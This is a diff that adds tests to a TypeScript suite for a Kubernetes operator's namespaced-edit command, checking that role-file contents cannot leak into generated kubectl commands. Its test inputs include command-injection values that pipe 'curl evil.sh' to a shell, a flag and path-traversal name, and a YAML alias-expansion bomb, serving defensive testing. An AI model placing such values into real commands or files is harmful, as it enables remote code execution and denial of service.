@@ -19,6 +19,13 @@ const objectsIn = (project: TestProject, path: string): string[] =>
     return [kind, metadata.namespace, metadata.name].filter((each) => each !== undefined).join(' ');
   });
 
+const roleOf = (name: string): string => JSON.stringify({ kind: 'ClusterRole', metadata: { name } });
+
+const grown = Array.from({ length: 9 }, (_, index) => {
+  const [before, after] = ['abcdefghij'.charAt(index), 'abcdefghij'.charAt(index + 1)];
+  return `${after}: &${after} [${Array.from({ length: 9 }, () => `*${before}`).join(', ')}]\n`;
+}).join('');
+
 describe('edit --namespaced', () => {
   it('gives the operator the rights of its namespace, and back gives the tree byte for byte', async () => {
     const project = await projectWithKinds();
@@ -52,6 +59,44 @@ describe('edit --namespaced', () => {
       'kubectl delete rolebinding test-operator-manager-rolebinding --namespace test-operator-system',
     );
     expect((await project.settings({ multigroup: true })).next).toEqual([]);
+  });
+
+  it.each([
+    ['names with commands', roleOf('a;curl${IFS}evil.sh|sh')],
+    ['names of several lines', roleOf('b\ncurl evil.sh')],
+    ['names with substitutions', roleOf('$(curl evil.sh)')],
+    ['names that are flags', roleOf('--all')],
+    ['names of other folders', roleOf('../x')],
+    ['names that are no texts', 'kind: ClusterRole\nmetadata: { name: { toString: 1 } }\n'],
+    ['kinds that are no texts', 'kind: { toString: 1 }\n'],
+    ['no object', '- 1\n---\ntext\n---\nkind: ClusterRole\nmetadata: [1]\n'],
+    ['an alias without an anchor', 'kind: Role\na: *x\n'],
+    ['an error', 'kind: Role\na: [*x\n'],
+    ['aliases that grow', `a: &a [1]\n${grown}kind: ClusterRole\nmetadata: { name: bomb }\n`],
+    ['an anchor in itself', 'a: &a [*a]\nkind: Role\n'],
+    ['more entries than a manifest has', Array.from({ length: 60_000 }, (_, index) => `k${index}: 1\n`).join('')],
+    ['more levels than a manifest has', `a: ${'['.repeat(20_000)}\n`],
+    ['a merge of no mapping', 'kind: ClusterRole\n<<: 1\nmetadata: { name: curl }\n'],
+  ])('puts nothing of a role file with %s into a command', async (_, text) => {
+    const project = await projectWithKinds();
+    project.write('config/rbac/role.yaml', text);
+    const start = performance.now();
+    const { next } = await project.settings({ namespaced: true });
+    expect(performance.now() - start).toBeLessThan(20_000);
+    for (const each of next) {
+      expect(each).not.toMatch(/curl|IFS|all|x$|\.\.|object|undefined|\n/);
+      expect(each).toMatch(/^kubectl delete [a-z]+( test-operator-[\w.:-]+)+$/);
+    }
+    expect(next.join(' ')).toContain('test-operator-manager-rolebinding');
+  });
+
+  it('names a role that a user has added, under every name that tools give', async () => {
+    const project = await projectWithKinds();
+    const names = ['system:mine', 'My_Role', 'a.b-c'];
+    project.write('config/rbac/role.yaml', names.map((name) => `${roleOf(name)}\n`).join('---\n'));
+    const { next } = await project.settings({ namespaced: true });
+    const words = next.find((each) => each.startsWith('kubectl delete clusterrole '))?.split(' ');
+    for (const name of names) expect(words).toContain(`test-operator-${name}`);
   });
 
   it('changes the markers that the user has written, and lists those that have a namespace of their own', async () => {
